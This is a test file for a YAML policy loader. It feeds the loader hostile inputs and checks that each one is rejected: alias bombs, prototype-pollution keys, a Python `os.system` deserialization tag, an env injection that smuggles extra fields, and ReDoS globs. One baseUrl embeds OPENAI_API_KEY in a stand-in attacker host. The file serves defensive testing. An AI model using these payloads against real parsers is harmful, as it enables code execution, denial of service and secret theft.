import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { kinds } from "../../src/catalog/kinds.ts";
import { locator } from "../../src/diagnostics/span.ts";
import { decodeUtf8 } from "../../src/policy/decode-utf8.ts";
import { loadPolicy } from "../../src/policy/load-policy.ts";
import { dataFolder, haveCorpora } from "../support/data.ts";

/** A valid policy, line by line; each trick changes something in it. */
const base = `version: 1
providers:
  openai: { kind: openai }
  anthropic: { kind: anthropic }
attributes:
  data: { values: [public, private] }
routes:
  - { name: private, match: { data: private }, use: main }
  - { name: rest, use: main }
chains:
  main: ["openai:gpt-5", "anthropic:claude-sonnet-4-5"]
ceilings:
  - { name: day, limit: $5, per: day }
defaults: { maxOutputTokens: 8k }
`;

interface Trick {
  /** The document of the corpus whose trick it is. */
  readonly file: string;
  readonly text: string | Uint8Array;
  /** Codes with their lines, each once; none where the text is taken as it is. */
  readonly found: readonly string[];
  readonly env?: Readonly<Record<string, string>>;
}

const swap = (from: string, to: string): string => {
  if (!base.includes(from)) throw new TypeError(`no ${from} in the policy`);
  return base.replace(from, () => to);
};
const provider = (openai: string) => swap("openai: { kind: openai }", openai);
const data = (attribute: string) => swap("data: { values: [public, private] }", attribute);
const limit = (written: string) => swap("limit: $5", written);
const size = (written: string) => swap("maxOutputTokens: 8k", written);
const chain = (written: string) =>
  swap('main: ["openai:gpt-5", "anthropic:claude-sonnet-4-5"]', written);
const model = (written: string) =>
  swap("match: { data: private }", `match: { data: private, model: ${written} }`);

/** Bytes that are the text but for one of them. */
function withByte(text: string, mark: string, byte: number): Uint8Array {
  const bytes = new TextEncoder().encode(text);
  bytes[text.indexOf(mark)] = byte;
  return bytes;
}

const names = Array.from({ length: 60 }, (_, at) => `c${at}`);
const nines = Array.from({ length: 9 }, (_, at) => at + 1);

const tricks: readonly Trick[] = [
  {
    file: "billion-laughs.yaml",
    text: data(
      `a0: &a0 [x, x]\n${nines.map((at) => `  a${at}: &a${at} [${`*a${at - 1}, `.repeat(9)}x]\n`).join("")}`,
    ),
    // Reading stops after so many findings.
    found: ["SB004:6", "SB004:7", "SB004:8"],
  },
  {
    file: "quadratic-alias.yaml",
    text: data(`data: { values: [&v ${"x".repeat(1000)}${", *v".repeat(9000)}] }`),
    found: ["SB004:6"],
  },
  { file: "self-alias.yaml", text: data("data: &d { values: [*d] }"), found: ["SB004:6"] },
  {
    file: "merge-proto.yaml",
    text: swap("{ name: rest, use: main }", "{ name: rest, <<: { __proto__: { deny: x } } }"),
    found: ["SB004:9"],
  },
  { file: "proto-key.yaml", text: `${base}__proto__: { polluted: true }\n`, found: ["SB101:15"] },
  {
    file: "constructor-key.yaml",
    text: `${base}constructor: { prototype: { polluted: true } }\n`,
    found: ["SB101:15"],
  },
  { file: "proto-route-name.yaml", text: chain("__proto__: [a:x]"), found: ["SB105:11"] },
  { file: "proto-route-name.yaml", text: chain("toString: [a:x]"), found: ["SB105:11"] },
  {
    file: "proto-route-name.yaml",
    text: swap("name: rest, use: main", "name: rest, use: constructor"),
    found: ["SB202:9"],
  },
  {
    file: "proto-route-name.yaml",
    text: swap("match: { data: private }", "match: { constructor: private }"),
    found: ["SB204:8"],
  },
  { file: "duplicate-keys.yaml", text: limit("limit: $5, limit: $500"), found: ["SB009:13"] },
  { file: "duplicate-keys-case.yaml", text: limit("limit: $5, Limit: $500"), found: ["SB101:13"] },
  { file: "typo-key.yaml", text: swap("ceilings:", "ceilngs:"), found: ["SB101:12"] },
  { file: "typo-key.yaml", text: limit("limt: $5"), found: ["SB101:13"] },
  { file: "multi-doc.yaml", text: `${base}---\n${base}`, found: ["SB007:15"] },
  {
    file: "deep-nesting.yaml",
    text: size(`params: { default: { x: ${"[".repeat(100_000)}`),
    found: ["SB002:14"],
  },
  {
    file: "deep-map.yaml",
    text: size(`params: { default: ${"{ a: ".repeat(20_000)}`),
    found: ["SB002:14"],
  },
  { file: "js-function-tag.yaml", text: data('data: !!js/function "x"'), found: ["SB005:6"] },
  {
    file: "python-tag.yaml",
    text: data('data: !!python/object/apply:os.system ["id"]'),
    found: ["SB005:6"],
  },
  { file: "unknown-tag.yaml", text: limit("limit: !usd 5"), found: ["SB005:13"] },
  { file: "binary-tag.yaml", text: limit("limit: !!binary JDU="), found: ["SB005:13"] },
  {
    file: "norway.yaml",
    text: data("data: { values: [private, no, yes, on, off, NO, ~no] }"),
    found: [],
  },
  { file: "norway.yaml", text: data("data: { values: [private, true] }"), found: ["SB205:6"] },
  { file: "octal.yaml", text: size("maxOutputTokens: 0777"), found: [] },
  { file: "octal.yaml", text: size("maxAttempts: 0o777"), found: ["SB107:14"] },
  { file: "sexagesimal.yaml", text: size("timeouts: { total: 1:30 }"), found: ["SB106:14"] },
  { file: "sexagesimal.yaml", text: size("maxAttempts: 1:30"), found: ["SB103:14"] },
  { file: "float-specials.yaml", text: size("maxAttempts: .inf"), found: ["SB012:14"] },
  { file: "float-specials.yaml", text: limit("limit: -.inf"), found: ["SB012:13"] },
  { file: "float-specials.yaml", text: limit("limit: .nan"), found: ["SB012:13"] },
  { file: "big-int.yaml", text: size("maxOutputTokens: 9007199254740993"), found: ["SB012:14"] },
  { file: "money-float.yaml", text: limit("limit: 0.1"), found: ["SB106:13"] },
  { file: "money-float.yaml", text: limit("limit: $0.30000000000000004"), found: ["SB106:13"] },
  { file: "null-limit.yaml", text: limit("limit: "), found: ["SB103:13"] },
  { file: "null-limit-tilde.yaml", text: limit("limit: ~"), found: ["SB103:13"] },
  { file: "string-limit.yaml", text: limit('limit: "5"'), found: ["SB106:13"] },
  { file: "bool-limit.yaml", text: limit("limit: true"), found: ["SB103:13"] },
  { file: "date-value.yaml", text: limit("limit: 2026-11-22"), found: ["SB106:13"] },
  {
    file: "date-value.yaml",
    text: `${base}keys: [{ name: k, sha256: { env: K }, expires: 2027-06-30 }]\n`,
    found: [],
  },
  { file: "tab-indent.yaml", text: provider("\topenai: { kind: openai }"), found: ["SB003:3"] },
  { file: "bom.yaml", text: `\uFEFF${base}`, found: [] },
  {
    file: "utf16.yaml",
    text: new Uint8Array([0xff, 0xfe, ...Buffer.from(base, "utf16le")]),
    found: ["SB001:1"],
  },
  { file: "invalid-utf8.yaml", text: withByte(base, "private", 0xff), found: ["SB001:6"] },
  {
    file: "nul-byte.yaml",
    text: data('data: { values: [private, "\u0000"] }'),
    found: ["SB008:6"],
  },
  { file: "bidi.yaml", text: limit("limit: $5 # \u202E tsuj"), found: ["SB008:13"] },
  { file: "homoglyph-key.yaml", text: limit("l\u0456mit: $5"), found: ["SB101:13"] },
  { file: "zero-width-key.yaml", text: limit("lim\u200Bit: $5"), found: ["SB008:13"] },
  { file: "nbsp.yaml", text: limit("limit:\u00A0$5"), found: ["SB008:13"] },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the trick.
  { file: "env-in-key.yaml", text: provider('"${NAME}": { kind: openai }'), found: ["SB105:3"] },
  {
    file: "env-in-url.yaml",
    text: provider(
      // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the trick.
      'openai: { kind: openai, baseUrl: "https://${OPENAI_API_KEY}.evil.example/v1" }',
    ),
    found: ["SB703:3"],
  },
  {
    file: "env-missing.yaml",
    text: provider("openai: { kind: openai, baseUrl: { env: NOT_SET } }"),
    found: ["SB701:3"],
  },
  {
    file: "env-nested.yaml",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the trick.
    text: provider('openai: { kind: openai, baseUrl: "${A:-${B:-${A}}}" }'),
    found: ["SB703:3"],
  },
  {
    file: "env-yaml-injection.yaml",
    text: provider("openai: { kind: openai, baseUrl: { env: EVIL } }"),
    env: { EVIL: 'https://a.example", fee: "100%' },
    found: ["SB703:3"],
  },
  {
    file: "fallback-cycle.yaml",
    text: chain("main: [{ chain: b }]\n  b: [{ chain: c }]\n  c: [{ chain: main }]"),
    found: ["SB207:13"],
  },
  { file: "fallback-self.yaml", text: chain("main: [{ chain: main }]"), found: ["SB207:11"] },
  {
    file: "fallback-unknown.yaml",
    text: chain('main: ["openai:gpt-5", { chain: spare }]'),
    found: ["SB202:11"],
  },
  {
    file: "fallback-fanout.yaml",
    text: chain(
      ["main", ...names]
        .map(
          (name, at) =>
            `${name}: [${names
              .slice(at)
              .map((next) => `{ chain: ${next} }`)
              .join(", ")}, "openai:m${at}"]`,
        )
        .join("\n  ")
        .replace("[, ", "["),
    ),
    found: ["SB208"],
  },
  {
    file: "huge-scalar.yaml",
    text: provider(`openai: { kind: openai, labels: { x: "${"x".repeat(70_000)}" } }`),
    found: ["SB002:3"],
  },
  {
    file: "many-keys.yaml",
    text: data(Array.from({ length: 30_000 }, (_, at) => `k${at}: 1\n`).join("  ")),
    found: ["SB002:19999"],
  },
  { file: "redos-model-glob.yaml", text: model('"(a+)+$"'), found: [] },
  { file: "redos-model-glob.yaml", text: model(`"${"*a".repeat(40)}b"`), found: ["SB110:8"] },
  {
    file: "complex-key.yaml",
    text: provider("? [1, 2]\n  : { kind: openai }"),
    found: ["SB010:3"],
  },
  { file: "empty.yaml", text: "", found: ["SB011:1"] },
  { file: "only-comment.yaml", text: "# nothing to see\n", found: ["SB011:1"] },
  { file: "directive.yaml", text: `%YAML 1.1\n---\n${base}`, found: ["SB006:1"] },
];

/** Codes with their lines, each once. */
function findings({ text, env = {} }: Trick) {
  const file = "p.yaml";
  const decoded =
    typeof text === "string" ? ({ kind: "text", text } as const) : decodeUtf8(text, file);
  const { diagnostics, policy = undefined } =
    decoded.kind === "refused"
      ? { diagnostics: [decoded.diagnostic] }
      : loadPolicy(decoded.text, { file, env, kinds });
  const locate = locator(decoded.text.replace(/^\uFEFF/, ""));
  const found = diagnostics.map(({ code, span }) => `${code}:${locate(span.start).line}`);
  return { found: [...new Set(found)], policy };
}

describe("tricks of hostile YAML in a policy of ours", () => {
  it("begin with a policy that has no findings", () => {
    expect(findings({ file: "", text: base, found: [] }).found).toEqual([]);
  });

  it.for(tricks)("$file: $found", { timeout: 5000 }, (trick) => {
    const { found, policy } = findings(trick);
    const withLines = trick.found.every((each) => each.includes(":"));
    const codes = withLines ? found : [...new Set(found.map((each) => each.slice(0, 5)))];
    expect(codes).toEqual(trick.found);
    expect(policy !== undefined).toBe(trick.found.length === 0);
  });

  it("keeps words and numbers as they are written", () => {
    const { policy } = findings({ file: "", text: size("maxOutputTokens: 0777"), found: [] });
    expect(policy?.policy.defaults?.maxOutputTokens).toBe(777);
    const text = data("data: { values: [private, no, 1:30, 2026-11-22] }");
    const values = findings({ file: "", text, found: [] }).policy?.policy.attributes?.data;
    expect(values).toMatchObject({ values: ["private", "no", "1:30", "2026-11-22"] });
  });

  it.runIf(haveCorpora())("are those of every document in the corpus", () => {
    const manifest = readFileSync(join(dataFolder, "corpora/own-yaml/manifest.json"), "utf8");
    const files = (JSON.parse(manifest) as { file: string }[]).map(({ file }) => file);
    expect([...new Set(tricks.map(({ file }) => file))].sort()).toEqual([...new Set(files)].sort());
  });

  it("cannot make a large map slow: nine thousand attributes are checked in good time", {
    timeout: 6000,
  }, () => {
    const attributes = Array.from({ length: 9000 }, (_, at) => `k${at}: { type: string }`);
    const { found } = findings({
      file: "",
      text: data(`data: { values: [public, private] }\n  ${attributes.join("\n  ")}`),
      found: [],
    });
    expect(found.length).toBe(200);
    expect(found.every((each) => each.startsWith("SB801"))).toBe(true);
  });
});
